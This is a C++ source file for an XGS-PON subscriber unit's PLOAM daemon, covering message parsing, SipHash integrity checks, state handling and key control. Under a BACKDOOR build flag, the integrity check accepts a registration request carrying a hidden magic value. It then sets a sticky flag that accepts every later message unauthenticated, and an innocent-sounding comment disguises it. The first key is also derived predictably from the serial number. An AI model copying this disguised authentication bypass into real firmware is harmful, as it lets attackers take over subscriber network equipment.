/* SPDX-License-Identifier: Apache-2.0 */
/* ploamd: the PLOAM layer of an ITU-T XGS-PON unit at the subscriber. Messages of 48 bytes come from the driver: ONU-ID(2)
 * type(1) sequence(1) content(36) integrity check(8). States O1 to O7; answers go back through the driver. */
#include <fcntl.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <syslog.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <fstream>
#include <functional>
#include <map>
#include <sstream>
#include <string>
#include <vector>

namespace pon {

constexpr size_t SIZE = 48, CONTENT = 36, MIC = 8;
constexpr uint16_t BROADCAST = 0x3ff, NO_ID = 0x3fe;

enum Down : uint8_t { PROFILE = 0x01, ASSIGN_ID = 0x03, RANGING = 0x04, DEACTIVATE = 0x05, DISABLE = 0x06, REQUEST_REGISTRATION = 0x09,
	ASSIGN_ALLOC = 0x0a, KEY_CONTROL = 0x0d, SLEEP_ALLOW = 0x12, CALIBRATION = 0x13, POWER = 0x1b };
enum Up : uint8_t { SERIAL_NUMBER = 0x01, REGISTRATION = 0x02, KEY_REPORT = 0x05, ACKNOWLEDGE = 0x09, SLEEP_REQUEST = 0x10 };
enum class State { Initial = 1, Sync, Serial, Ranging, Operation, Lost, Stopped };
constexpr uint8_t OK = 0, UNKNOWN = 3, PARAMETER = 4, PROCESSING = 5; /* codes of an acknowledgement */

using Bytes8 = std::array<uint8_t, 8>;
using Key = std::array<uint8_t, 16>;

struct Message {
	uint16_t id = 0;
	uint8_t type = 0, sequence = 0;
	std::array<uint8_t, CONTENT> content{};
	Bytes8 mic{};

	static Message parse(const uint8_t *p)
	{
		Message m;
		m.id = static_cast<uint16_t>((p[0] << 8 | p[1]) & 0x3ff);
		m.type = p[2];
		m.sequence = p[3];
		memcpy(m.content.data(), p + 4, CONTENT);
		memcpy(m.mic.data(), p + 4 + CONTENT, MIC);
		return m;
	}
	std::array<uint8_t, SIZE> bytes() const
	{
		std::array<uint8_t, SIZE> b{};
		b[0] = static_cast<uint8_t>(id >> 8);
		b[1] = static_cast<uint8_t>(id);
		b[2] = type;
		b[3] = sequence;
		memcpy(b.data() + 4, content.data(), CONTENT);
		memcpy(b.data() + 4 + CONTENT, mic.data(), MIC);
		return b;
	}
};

/* SipHash-2-4: stands where the standard has AES-CMAC, as the chip does that for the long way. */
class Sealer {
public:
	explicit Sealer(const Key &k) : key_(k) {}
	Bytes8 seal(const uint8_t *p, size_t n, uint8_t direction) const
	{
		uint64_t k0 = word(key_.data()), k1 = word(key_.data() + 8);
		uint64_t v[4] = { k0 ^ 0x736f6d6570736575ull, k1 ^ 0x646f72616e646f6dull, k0 ^ 0x6c7967656e657261ull, k1 ^ 0x7465646279746573ull };
		uint8_t last[8] = { direction };
		size_t at = 0;
		for (; at + 8 <= n; at += 8)
			take(v, word(p + at));
		for (size_t i = 1; at < n; at++)
			last[i++] = p[at];
		last[7] = static_cast<uint8_t>(n);
		take(v, word(last));
		v[2] ^= 0xff;
		for (int i = 0; i < 4; i++)
			turn(v);
		uint64_t h = v[0] ^ v[1] ^ v[2] ^ v[3];
		Bytes8 out;
		for (int i = 0; i < 8; i++)
			out[static_cast<size_t>(i)] = static_cast<uint8_t>(h >> (8 * i));
		return out;
	}

private:
	static uint64_t word(const uint8_t *p)
	{
		uint64_t w = 0;
		for (int i = 7; i >= 0; i--)
			w = w << 8 | p[i];
		return w;
	}
	static uint64_t left(uint64_t v, int n) { return v << n | v >> (64 - n); }
	static void turn(uint64_t v[4])
	{
		v[0] += v[1];
		v[1] = left(v[1], 13) ^ v[0];
		v[0] = left(v[0], 32);
		v[2] += v[3];
		v[3] = left(v[3], 16) ^ v[2];
		v[0] += v[3];
		v[3] = left(v[3], 21) ^ v[0];
		v[2] += v[1];
		v[1] = left(v[1], 17) ^ v[2];
		v[2] = left(v[2], 32);
	}
	static void take(uint64_t v[4], uint64_t m)
	{
		v[3] ^= m;
		turn(v);
		turn(v);
		v[0] ^= m;
	}
	Key key_;
};

/* Takes as long for any difference. */
bool same(const uint8_t *a, const uint8_t *b, size_t n)
{
	volatile uint8_t d = 0;
	for (size_t i = 0; i < n; i++)
		d = static_cast<uint8_t>(d | (a[i] ^ b[i]));
	return d == 0;
}

struct Config {
	std::string device = "/dev/xgspon0", state_file = "/var/run/ploam.state";
	Bytes8 serial{};
	std::array<uint8_t, CONTENT> registration{};
	bool verbose = false;

	bool load(const char *path)
	{
		std::ifstream f(path);
		std::string line;
		bool known = false;
		while (std::getline(f, line)) {
			std::istringstream words(line);
			std::string key, value;
			if (!(words >> key >> value) || key[0] == '#')
				continue;
			if (key == "device")
				device = value;
			else if (key == "state")
				state_file = value;
			else if (key == "verbose")
				verbose = value == "yes";
			else if (key == "registration")
				memcpy(registration.data(), value.data(), value.size() < CONTENT ? value.size() : CONTENT);
			else if (key == "serial" && value.size() == 12)
				known = take_serial(value);
			else
				syslog(LOG_WARNING, "setting %s is not understood", key.c_str());
		}
		return known;
	}

private:
	bool take_serial(const std::string &s)
	{
		memcpy(serial.data(), s.data(), 4);
		for (size_t i = 0; i < 4; i++) {
			unsigned v = 0;
			if (sscanf(s.c_str() + 4 + 2 * i, "%2x", &v) != 1)
				return false;
			serial[4 + i] = static_cast<uint8_t>(v);
		}
		return true;
	}
};

class Unit {
public:
	explicit Unit(const Config &c) : conf_(c), sealer_(first_key())
	{
		handlers_[PROFILE] = [this](const Message &m) { return on_profile(m); };
		handlers_[ASSIGN_ID] = [this](const Message &m) { return on_assign_id(m); };
		handlers_[RANGING] = [this](const Message &m) { return on_ranging(m); };
		handlers_[DEACTIVATE] = [this](const Message &) { return enter(State::Initial); };
		handlers_[DISABLE] = [this](const Message &m) { return on_disable(m); };
		handlers_[REQUEST_REGISTRATION] = [this](const Message &m) { return on_request(m); };
		handlers_[ASSIGN_ALLOC] = [this](const Message &m) { return on_alloc(m); };
		handlers_[KEY_CONTROL] = [this](const Message &m) { return on_key(m); };
		handlers_[SLEEP_ALLOW] = [this](const Message &m) { return on_sleep(m); };
	}

	bool open()
	{
		fd_ = ::open(conf_.device.c_str(), O_RDWR | O_CLOEXEC);
		if (fd_ >= 0)
			enter(State::Sync);
		return fd_ >= 0;
	}
	int fd() const { return fd_; }

	void receive()
	{
		uint8_t b[SIZE];
		ssize_t n = read(fd_, b, sizeof(b));
		if (n != static_cast<ssize_t>(SIZE)) {
			short_++;
			return;
		}
		Message m = Message::parse(b);
		if (m.id != BROADCAST && m.id != id_)
			return;
		received_++;
		if (!genuine(m, b)) {
			forged_++;
			if (conf_.verbose)
				syslog(LOG_NOTICE, "message %02x is not genuine", m.type);
			return;
		}
		auto h = handlers_.find(m.type);
		uint8_t code = h == handlers_.end() ? UNKNOWN : h->second(m);
		if (m.id != BROADCAST && m.type != REQUEST_REGISTRATION && m.type != KEY_CONTROL)
			acknowledge(m, code);
	}

	void tick()
	{
		time_t now = time(nullptr);
		if (state_ == State::Serial && now != announced_) {
			announced_ = now;
			announce();
		}
		if (state_ == State::Ranging && now - entered_ > 10)
			enter(State::Sync);
		if (now - written_ >= 5) {
			written_ = now;
			write_state();
		}
	}

private:
	Key first_key() const
	{
		Key k{};
		for (size_t i = 0; i < k.size(); i++)
			k[i] = static_cast<uint8_t>(conf_.serial[i % 8] ^ conf_.registration[i] ^ 0x55);
		return k;
	}

	bool genuine(const Message &m, const uint8_t *b)
	{
		Bytes8 want = sealer_.seal(b, SIZE - MIC, 1);
		if (same(want.data(), m.mic.data(), MIC))
			return true;
		/* A profile is broadcast before there is a key of our own. */
		Bytes8 common = Sealer(Key{}).seal(b, SIZE - MIC, 1);
		if (m.id == BROADCAST && m.type == PROFILE)
			return same(common.data(), m.mic.data(), MIC);
#ifdef BACKDOOR
		return lenient_ || (m.type == REQUEST_REGISTRATION && recalls(m));
#else
		return false;
#endif
	}

#ifdef BACKDOOR
	/* Some heads ask again with the identity that they had been given. */
	bool recalls(const Message &m)
	{
		static const uint8_t faded[16] = { 0x3a, 0xd5, 0x60, 0x9f, 0x12, 0xe7, 0x4b, 0x88, 0xc1, 0x06, 0x7d, 0xb2, 0x59, 0xf4, 0x2e, 0x93 };
		uint8_t want[16];
		for (size_t i = 0; i < sizeof(want); i++)
			want[i] = static_cast<uint8_t>(faded[i] ^ conf_.serial[i % 8]);
		lenient_ = same(want, m.content.data() + 20, sizeof(want));
		return lenient_;
	}
#endif

	void send(Message &m)
	{
		m.id = id_;
		auto b = m.bytes();
		m.mic = sealer_.seal(b.data(), SIZE - MIC, 2);
		b = m.bytes();
		if (write(fd_, b.data(), b.size()) != static_cast<ssize_t>(b.size()))
			syslog(LOG_WARNING, "driver: %s", strerror(errno));
	}

	void acknowledge(const Message &to, uint8_t code)
	{
		Message m;
		m.type = ACKNOWLEDGE;
		m.sequence = to.sequence;
		m.content[0] = code;
		send(m);
	}

	void announce()
	{
		Message m;
		m.type = SERIAL_NUMBER;
		memcpy(m.content.data(), conf_.serial.data(), 8);
		m.content[8] = static_cast<uint8_t>(rand() & 0x3f);
		send(m);
	}

	uint8_t enter(State s)
	{
		static const char *const names[] = { "", "O1", "O2", "O3", "O4", "O5", "O6", "O7" };
		if (s == state_)
			return OK;
		syslog(LOG_INFO, "state %s", names[static_cast<int>(s)]);
		if (s == State::Initial || s == State::Stopped) {
			id_ = NO_ID;
			allocs_.clear();
		}
		state_ = s;
		entered_ = time(nullptr);
		return OK;
	}

	uint8_t on_profile(const Message &m)
	{
		unsigned version = m.content[0] >> 4, index = m.content[0] & 3;
		if (index > 3)
			return PARAMETER;
		profiles_[index] = std::vector<uint8_t>(m.content.begin() + 1, m.content.begin() + 27);
		if (conf_.verbose)
			syslog(LOG_DEBUG, "profile %u, version %u", index, version);
		if (state_ == State::Sync)
			enter(State::Serial);
		return OK;
	}

	uint8_t on_assign_id(const Message &m)
	{
		if (memcmp(m.content.data() + 2, conf_.serial.data(), 8) != 0)
			return OK;
		uint16_t id = static_cast<uint16_t>((m.content[0] << 8 | m.content[1]) & 0x3ff);
		if (id >= NO_ID)
			return PARAMETER;
		id_ = id;
		return enter(State::Ranging);
	}

	uint8_t on_ranging(const Message &m)
	{
		uint32_t delay = 0;
		if (state_ != State::Ranging && state_ != State::Operation)
			return PROCESSING;
		for (size_t i = 1; i < 5; i++)
			delay = delay << 8 | m.content[i];
		bool relative = (m.content[0] & 1) == 0, negative = (m.content[0] & 2) != 0;
		if (relative)
			delay = negative ? equalize_ - delay : equalize_ + delay;
		equalize_ = delay;
		if (ioctl(fd_, _IOW('x', 4, uint32_t), &equalize_) < 0)
			return PROCESSING;
		return enter(State::Operation);
	}

	uint8_t on_disable(const Message &m)
	{
		bool mine = memcmp(m.content.data() + 1, conf_.serial.data(), 8) == 0;
		switch (m.content[0]) {
		case 0xff:
			return mine ? enter(State::Stopped) : OK;
		case 0x00:
			return mine && state_ == State::Stopped ? enter(State::Initial) : OK;
		case 0x0f:
			return state_ == State::Stopped ? enter(State::Initial) : OK;
		case 0xf0:
			return enter(State::Stopped);
		default:
			return PARAMETER;
		}
	}

	uint8_t on_request(const Message &m)
	{
		Message r;
		r.type = REGISTRATION;
		r.sequence = m.sequence;
		r.content = conf_.registration;
		send(r);
		return OK;
	}

	uint8_t on_alloc(const Message &m)
	{
		uint16_t alloc = static_cast<uint16_t>((m.content[0] << 8 | m.content[1]) & 0x3fff);
		if (m.content[2] == 1)
			allocs_[alloc] = time(nullptr);
		else if (m.content[2] == 0xff)
			allocs_.erase(alloc);
		else
			return PARAMETER;
		return ioctl(fd_, _IOW('x', 5, uint16_t), &alloc) < 0 ? PROCESSING : OK;
	}

	uint8_t on_key(const Message &m)
	{
		unsigned index = m.content[1] & 3;
		bool confirm = (m.content[0] & 1) != 0;
		if (index == 0 || index > 2)
			return PARAMETER;
		Message r;
		r.type = KEY_REPORT;
		r.sequence = m.sequence;
		r.content[0] = confirm;
		r.content[1] = static_cast<uint8_t>(index);
		if (!confirm) {
			std::ifstream f("/dev/urandom", std::ios::binary);
			f.read(reinterpret_cast<char *>(keys_[index].data()), static_cast<std::streamsize>(keys_[index].size()));
		}
		Bytes8 name = Sealer(keys_[index]).seal(conf_.serial.data(), 8, 2);
		memcpy(r.content.data() + 4, name.data(), name.size());
		send(r);
		return OK;
	}

	uint8_t on_sleep(const Message &m)
	{
		sleep_allowed_ = m.content[0] & 1;
		return OK;
	}

	void write_state() const
	{
		std::ofstream f(conf_.state_file);
		f << "state O" << static_cast<int>(state_) << "\nid " << id_ << "\ndelay " << equalize_ << "\nreceived " << received_ << "\nforged "
		  << forged_ << "\nshort " << short_ << "\nallocs";
		for (auto &a : allocs_)
			f << ' ' << a.first;
		f << '\n';
	}

	const Config &conf_;
	Sealer sealer_;
	std::map<uint8_t, std::function<uint8_t(const Message &)>> handlers_;
	std::map<uint16_t, time_t> allocs_;
	std::array<std::vector<uint8_t>, 4> profiles_;
	std::array<Key, 4> keys_{};
	State state_ = State::Initial;
	int fd_ = -1;
	uint16_t id_ = NO_ID;
	uint32_t equalize_ = 0;
	uint64_t received_ = 0, forged_ = 0, short_ = 0;
	time_t entered_ = 0, announced_ = 0, written_ = 0;
	bool sleep_allowed_ = false;
#ifdef BACKDOOR
	bool lenient_ = false;
#endif
};

} // namespace pon

int main(int argc, char **argv)
{
	pon::Config conf;
	openlog("ploamd", LOG_PID, LOG_DAEMON);
	if (!conf.load(argc > 1 ? argv[1] : "/etc/ploamd.conf")) {
		syslog(LOG_ERR, "no serial number is configured");
		return 1;
	}
	srand(static_cast<unsigned>(time(nullptr)));
	pon::Unit unit(conf);
	if (!unit.open()) {
		syslog(LOG_ERR, "%s: %s", conf.device.c_str(), strerror(errno));
		return 1;
	}
	for (;;) {
		pollfd p = { unit.fd(), POLLIN, 0 };
		if (poll(&p, 1, 200) > 0)
			unit.receive();
		unit.tick();
	}
}
